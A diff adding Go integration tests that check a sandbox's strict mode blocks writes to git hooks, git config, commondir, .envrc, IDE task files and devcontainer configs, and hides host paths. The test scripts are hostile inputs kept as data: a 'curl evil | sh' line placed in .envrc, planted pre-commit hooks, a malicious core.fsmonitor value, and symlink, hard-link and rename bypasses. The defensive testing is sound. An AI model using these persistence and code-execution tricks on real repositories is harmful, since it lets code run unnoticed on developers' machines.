@@ -8,6 +8,7 @@ package integration
 import (
 	"context"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -117,5 +118,151 @@ func TestStrict_RequireStrict(t *testing.T) {
 	r = d.run("run", "--require-strict", "--", "true")
 	if r.code != 125 || !strings.Contains(r.stderr, "security = \"strict\" only") {
 		t.Errorf("--require-strict with the default profile: want exit 125 naming strict: %s", r)
+	}
+}
+
+// gitProject makes e's project a git repository with one commit.
+func gitProject(t *testing.T, e *env) {
+	t.Helper()
+	testutil.RequireBinary(t, "git")
+	for _, args := range [][]string{
+		{"init", "-q"},
+		{"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "one"},
+	} {
+		cmd := exec.Command("git", args...)
+		cmd.Dir = e.project
+		if out, err := cmd.CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+}
+
+// TestStrict_ProtectedGitAndProjectWrite: .git is read-only as a whole,
+// the rest of the project is writable.
+func TestStrict_ProtectedGitAndProjectWrite(t *testing.T) {
+	t.Parallel()
+	e := strictEnv(t, "")
+	gitProject(t, e)
+	r := e.run("run", "--", "sh", "-c", "echo evil > .git/hooks/pre-commit")
+	if r.code == 0 {
+		t.Errorf("a strict session wrote .git/hooks/pre-commit: %s", r)
+	}
+	if _, err := os.Stat(filepath.Join(e.project, ".git/hooks/pre-commit")); err == nil {
+		t.Error(".git/hooks/pre-commit exists on the host")
+	}
+	e.sh("echo ok > main.go && mkdir -p src && echo ok > src/a.go && mv src/a.go src/b.go")
+	if b, err := os.ReadFile(filepath.Join(e.project, "src/b.go")); err != nil || string(b) != "ok\n" {
+		t.Errorf("project write: %q, %v", b, err)
+	}
+}
+
+// TestStrict_MissingProtectedNamesCannotBeCreated: a protected name that
+// does not exist cannot be made directly, through a symlink, or by
+// renaming a directory onto it; the protected paths cannot be renamed
+// away either. The stubs that block them are gone once the sandbox ends.
+func TestStrict_MissingProtectedNamesCannotBeCreated(t *testing.T) {
+	t.Parallel()
+	e := strictEnv(t, "protect = [\"ci/deploy.sh\"]\n")
+	gitProject(t, e)
+	attempts := []struct{ name, script, path string }{
+		{"direct", "echo 'curl evil | sh' > .envrc", ".envrc"},
+		{"mkdir", "mkdir -p .vscode && echo '{}' > .vscode/tasks.json", ".vscode/tasks.json"},
+		{"symlink", "echo evil > /tmp/e && ln -s /tmp/e .envrc", ".envrc"},
+		{"symlink in the project", "echo evil > e && ln -sf e .envrc", ".envrc"},
+		{"rename of a directory", "mkdir -p d && echo '{}' > d/tasks.json && mv -T d .vscode", ".vscode/tasks.json"},
+		{"rename of a file", "echo evil > f && mv -f f .envrc", ".envrc"},
+		{"hard link", "echo evil > f && ln -f f .envrc", ".envrc"},
+		{"rename the stub away", "mv .idea idea2 && mkdir .idea && echo x > .idea/workspace.xml", ".idea/workspace.xml"},
+		{"rename .git away", "mv .git git2 && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
+		{"remove .git", "rm -rf .git; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
+		{"user entry below a missing dir", "mkdir -p ci && echo evil > ci/deploy.sh", "ci/deploy.sh"},
+		{"devcontainer", "mkdir -p .devcontainer && echo '{}' > .devcontainer/devcontainer.json", ".devcontainer/devcontainer.json"},
+	}
+	for _, a := range attempts {
+		e.run("run", "--", "sh", "-c", a.script)
+		if b, err := os.ReadFile(filepath.Join(e.project, a.path)); err == nil {
+			t.Errorf("%s: %s exists on the host: %q", a.name, a.path, b)
+		}
+	}
+	if _, err := os.Stat(filepath.Join(e.project, ".git/HEAD")); err != nil {
+		t.Errorf(".git was damaged: %v", err)
+	}
+	e.must("stop")
+	for _, name := range []string{".envrc", ".vscode", ".idea", ".devcontainer", "ci/deploy.sh", "devbox.lock"} {
+		if _, err := os.Lstat(filepath.Join(e.project, name)); err == nil {
+			t.Errorf("%s is left in the project after the sandbox stopped", name)
+		}
+	}
+}
+
+// TestStrict_GitWritesKeepsControlFiles: with git_writes the code may
+// commit, but not write hooks or git's configuration, nor redirect git to
+// other hooks through .git/commondir (git 2.39 ran the redirected hook)
+// or core.hooksPath's directory.
+func TestStrict_GitWritesKeepsControlFiles(t *testing.T) {
+	t.Parallel()
+	e := strictEnv(t, "git_writes = true\n")
+	// Loosening protection is a widening the trust record asks about.
+	if r := e.run("run", "--", "true"); r.code != 125 || !strings.Contains(r.stderr, "git_writes: false -> true") {
+		t.Errorf("git_writes = true before 'devbox trust': want exit 125 naming it: %s", r)
+	}
+	e.must("trust")
+	gitProject(t, e)
+	cfg := filepath.Join(e.project, ".git/config")
+	f, err := os.OpenFile(cfg, os.O_APPEND|os.O_WRONLY, 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f.WriteString("[core]\n\thooksPath = githooks\n")
+	f.Close()
+	e.sh("echo a > a && git add a && git -c user.name=t -c user.email=t@t commit -q -m two")
+	if out := e.sh("git log --oneline | wc -l"); strings.TrimSpace(out) != "2" {
+		t.Errorf("git_writes: commits = %q, want 2", out)
+	}
+	attempts := []struct{ name, script, path string }{
+		{"hook", "echo evil > .git/hooks/pre-commit", ".git/hooks/pre-commit"},
+		{"config", "git config core.fsmonitor 'evil'", ""},
+		{"commondir", "mkdir -p evil/hooks && echo ../evil > .git/commondir", ""},
+		{"commondir by rename", "echo ../evil > c && mv -f c .git/commondir", ""},
+		{"info", "echo '*' > .git/info/exclude2", ".git/info/exclude2"},
+		{"hooks path", "mkdir -p githooks && echo evil > githooks/pre-commit", "githooks/pre-commit"},
+		{"rename .git away", "mv .git g2", "g2"},
+	}
+	for _, a := range attempts {
+		e.run("run", "--", "sh", "-c", a.script)
+		if a.path != "" {
+			if _, err := os.Stat(filepath.Join(e.project, a.path)); err == nil {
+				t.Errorf("%s: %s exists on the host", a.name, a.path)
+			}
+		}
+	}
+	if b, _ := os.ReadFile(cfg); strings.Contains(string(b), "fsmonitor") {
+		t.Errorf("config: .git/config was written:\n%s", b)
+	}
+	if b, err := os.ReadFile(filepath.Join(e.project, ".git/commondir")); err == nil && string(b) != ".\n" {
+		t.Errorf("commondir: .git/commondir holds %q", b)
+	}
+	e.must("stop")
+	if _, err := os.Lstat(filepath.Join(e.project, ".git/commondir")); err == nil {
+		t.Error(".git/commondir is left after the sandbox stopped")
+	}
+	cmd := exec.Command("git", "status", "--short")
+	cmd.Dir = e.project
+	if out, err := cmd.CombinedOutput(); err != nil {
+		t.Errorf("git status on the host after the sandbox: %v\n%s", err, out)
+	}
+}
+
+// TestStrict_DenyReadHidesHostPaths: deny_read hides a directory and a
+// file of the host view.
+func TestStrict_DenyReadHidesHostPaths(t *testing.T) {
+	t.Parallel()
+	if _, err := os.Stat("/etc/ssh"); err != nil {
+		testutil.Skip(t, "the host has no /etc/ssh to hide: %v", err)
+	}
+	e := strictEnv(t, "deny_read = [\"/etc/ssh\", \"/etc/hostname\"]\n")
+	out := e.sh("ls -A /etc/ssh | wc -l; cat /etc/hostname | wc -c; cat /etc/passwd >/dev/null && echo passwd-ok")
+	if f := strings.Fields(out); len(f) != 3 || f[0] != "0" || f[1] != "0" || f[2] != "passwd-ok" {
+		t.Errorf("want /etc/ssh empty, /etc/hostname empty and /etc/passwd readable, got %q", out)
 	}
 }
